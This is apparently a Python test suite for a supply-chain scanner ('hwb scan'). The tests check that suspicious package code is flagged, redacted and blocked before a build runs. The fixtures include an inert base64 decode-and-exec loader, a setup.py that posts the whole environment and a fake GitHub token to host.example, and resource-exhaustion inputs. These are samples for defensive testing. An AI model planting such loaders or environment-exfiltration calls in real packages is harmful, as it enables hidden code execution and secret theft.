"""`hwb scan`, and the scan before a build, from outside. What each finding is of is tests/scan's."""
import json
import os

import support
from support import Place, fresh, make_sdist, project, write

LOADER = "import base64\nexec(base64.b64decode('cGFzcw=='))\n"
QUIET = "def answer():\n    return 42\n"


def outcomes(tap):
    """what is passed and refused, and by which exit code"""
    place, good = Place(), project()
    bad = project(files={"setup.py": LOADER})
    tap.run("a quiet project passes", place.hwb("scan", good), 0, "scanned 1 source: 0 errors, 0 warnings")
    tap.run("the working directory is the default", place.hwb("scan", cwd=good), 0, "scanned 1 source")
    run = place.hwb("scan", bad)
    tap.run("code that is decoded and run refuses", run, 4, "setup.py:2:", "error[SRC-DECODE-EXEC]", "exec(base64.b64decode(", "1 of 1 source is refused")
    tap.run("allowed with a reason", place.hwb("scan", "--allow", "SRC-DECODE-EXEC=a test", bad), 0, "allowed[SRC-DECODE-EXEC]")
    tap.run("in an sdist", place.hwb("scan", make_sdist(fresh("dist"), code="import base64; exec(base64.b64decode('cGFzcw=='))")), 4, "bk.py:")
    run = place.hwb("scan", "./absent", good, bad)
    tap.run("one that is not there does not hide the others", run, 2, "error[SRC-DECODE-EXEC]", "absent")
    tap.run("an id with a slip", place.hwb("scan", "--allow", "src-net=x", good), 2, "did you mean 'SRC-NET'?")
    tap.run("one that is not needed is said", place.hwb("scan", "--allow", "SRC-NET=x", good), 0, "nothing was found that --allow SRC-NET")
    tap.run("allowed in one place only", place.hwb("scan", "--allow", "SRC-DECODE-EXEC@lib/*=a test", bad), 4, "error[SRC-DECODE-EXEC]")
    tap.run("in the right place", place.hwb("scan", "--allow", "SRC-DECODE-EXEC@set*.py=a test", bad), 0, "allowed[SRC-DECODE-EXEC]")
    tap.run("what is no source", place.hwb("scan", "./absent"), 2)
    tap.run("a torn archive", place.hwb("scan", write(fresh("x"), {"a-1.tar.gz": b"\x1f\x8b"}) + "/a-1.tar.gz"), 4)
    shown = [e for e in place.log() if e["event"] == "scan.completed"]
    tap.check("each is in the log", [e["outcome"] for e in shown][:3] == ["passed", "passed", "refused"], shown)


def nothing_runs(tap):
    """the scan runs and imports nothing"""
    mark = os.path.join(fresh("mark"), "ran")
    code = "open(%r, 'w').write('ran')\n" % mark
    tree = project(code, files={"setup.py": code, "sitecustomize.py": code, "demo.pth": "import sitecustomize\n", "conftest.py": code})
    tap.run("it says what it saw", Place().hwb("scan", tree), 4, "SRC-SITECUSTOMIZE")
    tap.check("and did not run it", not os.path.exists(mark))


def before_builds(tap):
    """a build waits for the verdict"""
    mark = "MARK-THAT-IT-RAN"
    tree = project("print(%r)\n%s" % (mark, LOADER))
    place = Place()
    run = place.build("--wheel", "--no-index", "-v", tree)
    tap.run("an error stops it", run, 4, "is refused by 1 finding, SRC-DECODE-EXEC: bk.py:", "--allow SRC-DECODE-EXEC=WHY", "hwb help SRC-DECODE-EXEC", absent=[mark])
    tap.check("before the event that it began", "build.started" not in [e["event"] for e in place.log()])
    events = [e for e in place.log() if e["event"] == "scan.finding"]
    tap.check("the finding is in the log", [(e["id"], e["severity"], e["path"]) for e in events] == [("SRC-DECODE-EXEC", "error", "bk.py")], events)
    tap.run("reported, it goes on", place.build("--wheel", "--no-index", "-v", "--scan=report", tree), 0, "error[SRC-DECODE-EXEC]", mark)
    tap.run("off, nothing is said", place.build("--wheel", "--no-index", "--scan", "off", tree), 0, absent=["SRC-"])
    report = os.path.join(place.top, "report.json")
    run = place.build("--no-index", "--allow", "SRC-DECODE-EXEC=reviewed", "--report", report, tree)
    tap.run("allowed, it goes on", run, 0, "allowed[SRC-DECODE-EXEC]")
    found = [f for f in place.report()["findings"] if f["id"] == "SRC-DECODE-EXEC"]
    tap.check("what source and sdist share is said once", len(found) == 1 and run.err.count("SRC-DECODE-EXEC") == 1, found, run.err)
    tap.run("hwb fetch waits for it too", place.hwb("fetch", "-p", support.Setting.python, "--no-index", tree), 4, "SRC-DECODE-EXEC")
    run = place.hwb("shell", "-p", support.Setting.python, "--no-index", "--command", "true", tree)
    tap.run("a shell, which is for looking, opens, and nothing of the source has run", run, 0, "error[SRC-DECODE-EXEC]", "is refused", absent=[mark])


def by_the_project(tap):
    """a project has no say in it"""
    more = "\n[tool.hwb.build]\nscan = 'off'\n[tool.hwb.findings]\nallow = ['SRC-DECODE-EXEC=trust me']\n"
    tree = project(LOADER, more=more)
    tap.run("not even one that is trusted", Place().build("--wheel", "--no-index", "--trust-project", tree), 2, "build.scan")


def baselines(tap):
    """what is new since another version"""
    place, folder = Place(), fresh("facts")
    old, new = project(files={"setup.py": QUIET}), project(files={"setup.py": QUIET + "import urllib.request, subprocess\nurllib.request.urlopen('http://127.0.0.1:9')\nsubprocess.run(['gcc', '-v'])\n"})
    run = place.hwb("scan", "--baseline", old, new)
    tap.run("a new capability is told", run, 0, "setup.py:4:1: warning[SRC-NET]", "setup.py:5:1: warning[SRC-NEW]", "runs a program (subprocess.run)")
    noisy = project(files={"setup.py": LOADER})
    tap.run("what was there before is not told again", place.hwb("scan", "--baseline", noisy, noisy), 0, "0 errors", absent=["SRC-"])
    tap.run("the same source has none", place.hwb("scan", "--baseline", new, new), 0, absent=["SRC-NEW"])
    run = place.hwb("scan", "--json", old)
    facts = write(folder, {"old.json": run.out}) + "/old.json"
    tap.run("from facts that were kept", place.hwb("scan", "--baseline", facts, new), 0, "warning[SRC-NEW]")
    tap.run("from something else", place.hwb("scan", "--baseline", write(folder, {"x.json": "{}"}) + "/x.json", new), 2, "is not what 'hwb scan --json' writes")
    data = json.loads(place.hwb("scan", "--json", new).out)
    ids = [f["id"] for f in data["subjects"][0]["facts"]]
    tap.check("the facts have ids of their own", "py.urlopen" in ids, ids)


def hostile(tap):
    """files that would take all time and memory"""
    rows = [("a deep expression", b"x = " + b"(" * 50000 + b")" * 50000, 4), ("a long chain", b"x = a" + b".b" * 50000 + b"\n", 4),
            ("one line of 30 MB", b"x = '" + b"a" * 30000000 + b"'\n", 4), ("NULs", b"x = 1\0\0\n", 4), ("no UTF-8", b"x = '\xff\xfe'\n", 4),
            ("unary operators", b"x = " + b"-" * 100000 + b"1\n", 4)]
    for what, content, code in rows:
        run = Place().hwb("scan", project(files={"setup.py": content}))
        tap.check("%s: an answer, and no pass for what was not understood" % what, run.code == code and "SRC-" in run.text, run.told())


def tokens(tap):
    """what is shown of a source holds no token"""
    token = "gh" + "p_" + "Zq7rT9xLm2Kp4Vw8AbCdEfGhIjKlMn" + "0HgcM1"
    place = Place()
    bad = project(files={"setup.py": "import os, requests\nrequests.post('https://host.example/%s', data=dict(os.environ))\n" % token})
    for option in ("-v", "--json", "--sarif", "--github"):
        run = place.hwb("scan", option, bad)
        tap.check("hwb scan %s" % option, run.code == 4 and "SRC-ENV-NET" in run.out and (option == "--github" or "[REDACTED:github]" in run.text) and token[:12] not in run.text, run.told())
    tap.check("nor does the log", token not in place.kept_text().decode())


TESTS = [outcomes, tokens, nothing_runs, before_builds, by_the_project, baselines, hostile]
